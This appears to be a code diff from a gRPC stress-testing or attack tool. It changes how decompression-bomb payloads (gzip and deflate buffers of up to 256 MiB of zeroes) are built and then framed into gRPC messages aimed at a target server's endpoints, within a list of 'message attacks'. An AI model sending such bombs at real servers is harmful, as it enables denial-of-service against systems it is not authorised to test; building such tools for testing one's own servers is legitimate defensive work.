@@ -6,13 +6,23 @@ import type { RawConnection } from './raw-connection';
 
 const mebibyte = 1_048_576;
 const dataFrameBytes = 16_384;
-/** Compressed a thousandfold. */
-const zeroes = Buffer.alloc(16 * mebibyte);
-const bombs = [
-  { encoding: 'gzip', bytes: gzipSync(zeroes) },
-  { encoding: 'deflate', bytes: deflateSync(zeroes) },
-  { encoding: 'gzip', bytes: gzipSync(Buffer.alloc(256 * mebibyte)) },
-];
+
+interface Bomb {
+  readonly encoding: string;
+  readonly bytes: Buffer;
+}
+
+let made: readonly Bomb[] | undefined;
+
+/** Compressed a thousandfold; made when they are first thrown, which takes a second. */
+function bombs(): readonly Bomb[] {
+  const zeroes = Buffer.alloc(16 * mebibyte);
+  return (made ??= [
+    { encoding: 'gzip', bytes: gzipSync(zeroes) },
+    { encoding: 'deflate', bytes: deflateSync(zeroes) },
+    { encoding: 'gzip', bytes: gzipSync(Buffer.alloc(256 * mebibyte)) },
+  ]);
+}
 
 /** Messages that cost a server more than they cost the one who sends them. */
 export const messageAttacks: readonly Attack[] = [
@@ -48,7 +58,7 @@ export const messageAttacks: readonly Attack[] = [
 ];
 
 function bomb({ unaryPath, streamPath }: AttackTarget, stream: number, i: number): Buffer {
-  const { encoding, bytes } = bombs[i % bombs.length] ?? { encoding: 'gzip', bytes: Buffer.alloc(0) };
+  const { encoding, bytes } = bombs()[i % bombs().length] ?? { encoding: 'gzip', bytes: Buffer.alloc(0) };
   const headers = callHeaders(stream, i % 2 === 0 ? unaryPath : streamPath, [['grpc-encoding', encoding]]);
   return Buffer.concat([headers, ...inFrames(stream, grpcMessage(bytes, true))]);
 }
